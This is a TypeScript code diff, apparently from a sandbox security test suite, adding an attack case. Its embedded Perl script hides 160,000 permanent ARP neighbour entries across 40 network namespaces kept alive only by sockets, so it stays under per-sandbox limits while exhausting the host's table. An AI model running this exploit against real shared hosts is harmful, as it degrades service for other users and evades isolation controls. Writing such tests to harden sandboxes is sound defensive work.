@@ -50,6 +50,31 @@ const batchFiles = (count: number, line: string) =>
 
 const secondsSince = (start: number) => ((Date.now() - start) / 1000).toFixed(1);
 
+/** Namespaces the hiding attack makes, each with fewer entries than a sandbox may hold. */
+const HIDDEN_NAMESPACES = 40;
+const ENTRIES_PER_HIDDEN = 4000;
+
+/**
+ * Perl, in the sandbox: HIDDEN_NAMESPACES times a network namespace of its own (unshare), a socket
+ * in it, ENTRIES_PER_HIDDEN permanent entries added there by \`ip\`; then back to the sandbox's
+ * namespace. Only the sockets keep the new ones (and their entries) alive: no thread is in them, no
+ * descriptor or mount names them, and each alone stays below the limit. x86-64 syscall numbers.
+ */
+const HIDE_PL = `use strict; use Socket; $| = 1;
+open(my $home, '<', '/proc/self/ns/net') or die "home: $!";
+my @sockets;
+for my $i (1 .. ${HIDDEN_NAMESPACES}) {
+  syscall(272, 0x40000000) == 0 or die "unshare: $!";
+  socket(my $s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
+  push @sockets, $s;
+  system('sh', '-c', 'ip link add dz0 type veth peer name dz1 && ip link set dz0 up && ip -batch /tmp/held.aa >/dev/null 2>&1') == 0 or die "ip";
+}
+syscall(308, fileno($home), 0x40000000) == 0 or die "setns: $!";
+close $home;
+print "HIDDEN", chr(10);
+sleep 600;
+`;
+
 export const heldNeighbourAttacks: Attack[] = [
   {
     id: 'permanent-neighbours',
@@ -93,6 +118,51 @@ export const heldNeighbourAttacks: Attack[] = [
       } finally {
         clearInterval(watch);
         if (attacker.alive()) await attacker.terminal.run('ip netns del dyhold; rm -f /tmp/held.*', 60_000).catch(() => undefined);
+        attacker.terminal.close();
+        const session = context.engine.sessions.get(attacker.sessionId);
+        if (session) await context.engine.sessions.destroy(session, 'ended');
+      }
+    },
+  },
+  {
+    id: 'socket-held-neighbours',
+    title: `hold ${HIDDEN_NAMESPACES * ENTRIES_PER_HIDDEN} permanent neighbour entries in ${HIDDEN_NAMESPACES} network namespaces kept only by sockets, each below the limit`,
+    async run(context) {
+      const attacker = await ownAttacker(context);
+      const before = hostArpEntries();
+      let peak = before;
+      const watch = setInterval(() => (peak = Math.max(peak, hostArpEntries())), 200);
+      try {
+        const setup = await attacker.terminal.run(
+          `cat > /tmp/hide.pl <<'PLEOF'\n${HIDE_PL}PLEOF\n` +
+            [batchFiles(ENTRIES_PER_HIDDEN, 'neigh add 10.%d.%d.%d lladdr 02:00:00:00:00:01 nud permanent dev dz0'), 'echo HELD-SETUP-OK'].join(' && '),
+        );
+        if (!/HELD-SETUP-OK/.test(setup.output)) throw new Error(`the attack could not set up: ${setup.output.replace(/\s+/g, ' ').slice(-200)}`);
+        const started = Date.now();
+        attacker.terminal.learner.type('nohup perl /tmp/hide.pl > /tmp/hide.log 2>&1 &\r');
+        let endedAfter: string | undefined;
+        while (Date.now() - started < HOLD_SECONDS * 1000) {
+          if (!attacker.alive()) {
+            endedAfter ??= secondsSince(started);
+            break;
+          }
+          await new Promise((resolve) => setTimeout(resolve, 250));
+        }
+        const heldAtEnd = hostArpEntries() - before;
+        const hidden = attacker.alive() ? (await attacker.terminal.run('cat /tmp/hide.log')).output : '';
+        const succeeded = attacker.alive() && heldAtEnd > 50_000;
+        // Ended past the limit needs at least two namespaces' entries at once.
+        if (!succeeded && peak - before < ENTRIES_PER_HIDDEN + 100) throw new Error(`the attack did not add its entries (host table peaked ${peak - before} above ${before}) ${hidden.slice(-200)}`);
+        return {
+          succeeded,
+          evidence:
+            `the host's ARP table peaked ${peak - before} entries above its ${before} before; ` +
+            (endedAfter ? `the attacker's sandbox was ended ${endedAfter} s in ("${attacker.ended()?.reason ?? 'no event yet'}")` : `the attacker's sandbox still ran after ${HOLD_SECONDS} s (${/HIDDEN/.test(hidden) ? 'its namespace hidden behind a socket' : 'not hidden'})`) +
+            `; ${heldAtEnd} entries above the start held at the end`,
+        };
+      } finally {
+        clearInterval(watch);
+        if (attacker.alive()) await attacker.terminal.run('pkill -f hide.pl; rm -f /tmp/held.* /tmp/hide.pl /tmp/hide.log', 60_000).catch(() => undefined);
         attacker.terminal.close();
         const session = context.engine.sessions.get(attacker.sessionId);
         if (session) await context.engine.sessions.destroy(session, 'ended');
